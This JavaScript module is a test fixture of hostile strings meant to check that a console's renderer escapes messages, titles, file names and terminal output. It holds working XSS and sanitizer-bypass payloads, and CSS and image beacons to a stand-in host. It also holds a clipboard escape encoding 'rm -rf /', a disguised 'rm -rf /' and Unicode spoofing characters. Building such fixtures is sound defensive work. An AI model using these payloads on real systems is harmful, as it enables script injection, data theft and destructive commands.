/**
 * Texts that try to break out of where they are shown: for messages, titles, file names and terminal output.
 *
 * Browser tests import the list; `node console/tests/hostile.mjs` prints it as JSON lines for tests in other languages.
 * A text that runs sets `globalThis.hostile`, opens a dialog or loads something from `hostile.invalid`.
 */

import { fileURLToPath } from "node:url";

/** @typedef {{ name: string, text: string }} HostileText */

const ESC = "\u001b";
const BEL = "\u0007";
const RUN = "globalThis.hostile=1";
const HOST = "https://hostile.invalid";

/** Markup that would run a script. @type {HostileText[]} */
export const SCRIPTS = [
  { name: "script", text: `<script>${RUN}</script>` },
  { name: "script-source", text: `<script src="${HOST}/a.js"></script>` },
  { name: "script-split", text: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { name: "script-case", text: `<ScRiPt >${RUN}</sCrIpT >` },
  { name: "image-error", text: `<img src=x onerror="${RUN}">` },
  { name: "image-newline", text: `<img src=x\nonerror\n=\n${RUN}>` },
  { name: "image-slash", text: `<img/src=x/onerror=${RUN}//` },
  { name: "details-toggle", text: `<details open ontoggle=${RUN}>x</details>` },
  { name: "input-focus", text: `<input autofocus onfocus=${RUN}>` },
  { name: "video-error", text: `<video><source onerror="${RUN}"></video>` },
  { name: "body-load", text: `<body onload=${RUN}>` },
  { name: "iframe-source", text: `<iframe src="javascript:parent.hostile=1"></iframe>` },
  { name: "iframe-document", text: `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>` },
  { name: "object", text: `<object data="data:text/html,<script>${RUN}</script>"></object>` },
  { name: "embed", text: `<embed src="${HOST}/a.swf">` },
  { name: "base", text: `<base href="${HOST}/">` },
  { name: "refresh", text: `<meta http-equiv="refresh" content="0;url=${HOST}/">` },
  { name: "import", text: `<link rel="import" href="${HOST}/a.html"><link rel="preload" as="script" href="${HOST}/a.js">` },
  { name: "form", text: `<form action="${HOST}/"><button>Allow</button></form>` },
  { name: "form-clobber", text: `<form name="body"><input name="firstChild"></form><a id="trustedTypes"></a>` },
  { name: "template", text: `<template><img src=x onerror=${RUN}></template>` },
  { name: "noscript", text: `<noscript><p title="</noscript><img src=x onerror=${RUN}>">` },
  { name: "comment", text: `<!--><img src=x onerror=${RUN}>-->` },
  { name: "cdata", text: `<![CDATA[<img src=x onerror=${RUN}>]]>` },
  { name: "mathml", text: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">` },
  { name: "svg-script", text: `<svg><script>${RUN}</script></svg>` },
  { name: "svg-load", text: `<svg onload=${RUN}>` },
  { name: "svg-animate", text: `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text y=20>x</text></a></svg>` },
  { name: "svg-use", text: `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x" /></svg>` },
  { name: "svg-foreign", text: `<svg><foreignObject><body onload=${RUN}></body></foreignObject></svg>` },
  { name: "entities", text: `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;` },
  { name: "closing-tags", text: `</textarea></title></style></script></pre></code><img src=x onerror=${RUN}>` },
  { name: "attribute-quotes", text: `" onmouseover="${RUN}" x="` },
  { name: "template-literal", text: `\${${RUN}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %>` },
  { name: "json-close", text: `</script><script>${RUN}</script>` },
];

/** Links and pictures in Markdown that would run a script or load something. @type {HostileText[]} */
export const LINKS = [
  { name: "javascript", text: `[click](javascript:${RUN})` },
  { name: "javascript-case", text: `[click](JaVaScRiPt:${RUN})` },
  { name: "javascript-tab", text: `[click](java\tscript:${RUN}) <a href="java&#x0A;script:${RUN}">x</a>` },
  { name: "javascript-entity", text: `[click](&#106;avascript:${RUN})` },
  { name: "javascript-control", text: `<a href="\u0001javascript:${RUN}">x</a>` },
  { name: "vbscript", text: `[click](vbscript:msgbox(1))` },
  { name: "data", text: `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)` },
  { name: "blob", text: `[click](blob:${HOST}/x)` },
  { name: "file", text: `[click](file:///etc/passwd)` },
  { name: "protocol-relative", text: `![x](//hostile.invalid/a.png)` },
  { name: "remote-picture", text: `![x](${HOST}/a.png?secret=1)` },
  { name: "remote-picture-html", text: `<img src="${HOST}/a.png" srcset="${HOST}/b.png 2x"><picture><source srcset="${HOST}/c.png"></picture>` },
  { name: "svg-picture", text: `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)` },
  { name: "reference", text: `[click][a]\n\n[a]: javascript:${RUN} "x"` },
  { name: "autolink", text: `<javascript:${RUN}>` },
  { name: "title", text: `[click](https://example.org "\\" onmouseover=\\"${RUN}")` },
  { name: "relative", text: `[click](/api/logout) [click](../../api/devices)` },
  { name: "user-info", text: `[https://good.example](https://good.example@hostile.invalid/)` },
  { name: "beacon", text: `<a ping="${HOST}/" href="https://example.org">x</a><video poster="${HOST}/a.png"></video><audio src="${HOST}/a.ogg"></audio>` },
];

/** Styles that would cover the page, load something or read it. @type {HostileText[]} */
export const STYLES = [
  { name: "style-element", text: `<style>* { display: none !important }</style>` },
  { name: "style-import", text: `<style>@import "${HOST}/a.css";</style>` },
  { name: "style-link", text: `<link rel="stylesheet" href="${HOST}/a.css">` },
  { name: "style-attribute", text: `<div style="position:fixed;inset:0;background:red;z-index:99999">covered</div>` },
  { name: "style-url", text: `<div style="background:url(${HOST}/a.png)">x</div>` },
  { name: "style-selector", text: `<style>input[value^=a]{background:url(${HOST}/a)}</style>` },
  { name: "class-names", text: `<div class="dialog frame-header visually-hidden" id="root">x</div>` },
  { name: "fixed-svg", text: `<svg style="position:fixed;inset:0;width:100vw;height:100vh"><rect width="100%" height="100%"/></svg>` },
];

/** Characters that reorder, hide or imitate text. @type {HostileText[]} */
export const CHARACTERS = [
  { name: "bidi-override", text: `safe\u202etxt.exe\u202c` },
  { name: "bidi-isolate", text: `if (isAdmin) {\u2066 // \u2069 \u2066 allow\u2069` },
  { name: "bidi-unclosed", text: `\u202e\u202e\u202e unclosed` },
  { name: "arabic-mark", text: `a\u061cb\u200fc\u200ed` },
  { name: "zero-width", text: `pay\u200bpal\u200c.\u200dcom\u2060\ufeff` },
  { name: "tags", text: `hello\u{e0001}\u{e0068}\u{e0069}\u{e007f}` },
  { name: "controls", text: `a\u0000b\u0008\u0008c\u007fd\u0085e\u009b31mf` },
  { name: "line-separators", text: `a\u2028b\u2029c\rd\u000be\u000cf` },
  { name: "combining", text: `Z${"\u0351\u036b\u0343\u036a\u0302\u036b\u033d".repeat(60)}` },
  { name: "fillers", text: `\u3164\u115f\u1160\uffa0\u2800` },
  { name: "lone-surrogates", text: `a\ud800b\udc00c` },
  { name: "homoglyphs", text: `раураl.com аdmіn` },
  { name: "soft-hyphens", text: `rm\u00ad -rf\u00ad /` },
  { name: "non-characters", text: `a\ufffeb\uffffc\u{10ffff}d` },
];

/** Sequences for a terminal. @type {HostileText[]} */
export const TERMINAL = [
  { name: "colors", text: `${ESC}[31mred${ESC}[0m ${ESC}[38;5;9999mx${ESC}[38;2;999;-1;1my` },
  { name: "conceal", text: `${ESC}[8mhidden${ESC}[28m ${ESC}[30;40mblack` },
  { name: "clear", text: `${ESC}[2J${ESC}[3J${ESC}[H${ESC}c cleared` },
  { name: "cursor", text: `allowed${ESC}[7D${ESC}[Kdenied ${ESC}[99999;99999Hfar` },
  { name: "title", text: `${ESC}]0;owned${BEL}${ESC}]2;owned${ESC}\\` },
  { name: "link", text: `${ESC}]8;;javascript:${RUN}${ESC}\\click${ESC}]8;;${ESC}\\` },
  { name: "link-remote", text: `${ESC}]8;;${HOST}/?a=1${BEL}https://good.example${ESC}]8;;${BEL}` },
  { name: "clipboard", text: `${ESC}]52;c;cm0gLXJmIC8K${BEL}` },
  { name: "picture", text: `${ESC}]1337;File=inline=1:AAAA${BEL}${ESC}_Ga=T,f=100;AAAA${ESC}\\${ESC}Pq#0;2;0;0;0~~@@vv${ESC}\\` },
  { name: "notification", text: `${ESC}]9;owned${BEL}${ESC}]777;notify;a;b${BEL}` },
  { name: "report", text: `${ESC}[6n${ESC}[c${ESC}]10;?${BEL}${ESC}P+q544e${ESC}\\` },
  { name: "modes", text: `${ESC}[?1049h${ESC}[?25l${ESC}[?1000h${ESC}[?2004h${ESC}(0lqk${ESC}(B` },
  { name: "unclosed", text: `${ESC}]0;never closed <img src=x onerror=${RUN}>` },
  { name: "markup-inside", text: `${ESC}[1m<img src=x onerror=${RUN}>${ESC}[0m` },
  { name: "eight-bit", text: `\u009d0;owned\u009c\u009b2J` },
  { name: "carriage-return", text: `Downloading malware\rEverything is fine  ` },
];

/** Markdown that is expensive or breaks the layout. @type {HostileText[]} */
export const LAYOUT = [
  { name: "long-word", text: "W".repeat(20_000) },
  { name: "long-path", text: `/${"directory-without-spaces/".repeat(200)}file.rs` },
  { name: "many-lines", text: "line\n".repeat(5_000) },
  { name: "deep-quotes", text: `${">".repeat(2_000)} deep` },
  { name: "deep-lists", text: Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n") },
  { name: "deep-elements", text: `${"<div>".repeat(3_000)}x` },
  { name: "open-brackets", text: "[".repeat(10_000) },
  { name: "open-emphasis", text: "*a **a ".repeat(3_000) },
  { name: "open-code", text: `${"`".repeat(5_000)}x` },
  { name: "wide-table", text: `|${"a|".repeat(500)}\n|${"-|".repeat(500)}\n|${"b|".repeat(500)}` },
  { name: "unknown-language", text: "```__proto__\nx\n```\n\n```constructor\nx\n```\n\n```../../etc\nx\n```" },
  { name: "huge-number-list", text: "999999999. x\n-1. y" },
  { name: "heading", text: `# ${"Heading ".repeat(300)}` },
];

/** All texts above. @type {HostileText[]} */
export const HOSTILE_TEXTS = [
  ["script", SCRIPTS],
  ["link", LINKS],
  ["style", STYLES],
  ["character", CHARACTERS],
  ["terminal", TERMINAL],
  ["layout", LAYOUT],
].flatMap(([group, texts]) => /** @type {HostileText[]} */ (texts).map((it) => ({ ...it, name: `${group}/${it.name}` })));

/** One line without a space. @param {number} [bytes] */
export const hugeLine = (bytes = 10_000_000) => "0123456789".repeat(Math.ceil(bytes / 10)).slice(0, bytes);

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  for (const it of HOSTILE_TEXTS) console.log(JSON.stringify(it));
}
